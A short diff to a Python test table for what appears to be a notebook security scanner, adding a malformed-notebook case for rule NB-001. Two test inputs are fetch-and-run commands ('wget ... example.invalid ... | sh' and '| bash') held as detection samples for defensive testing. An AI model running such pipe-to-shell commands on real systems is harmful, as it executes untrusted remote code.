@@ -167,5 +167,6 @@ FAMILIES = {
         (_cells(("code", "x = 1"), ("markdown", "!ls")), []),
         (_cells(("code", "y = 2\n!ls -l")), [("NB-001", "MEDIUM")]),
         (_cells(("code", "wget -q http://example.invalid/a | bash")), [("NB-001", "HIGH")]),
+        (b'{"cells": ["odd", {"cell_type": "code", "source": ["!wget http://example.invalid/x | sh"]}]}', [("NB-001", "HIGH")]),
     ]),
 }
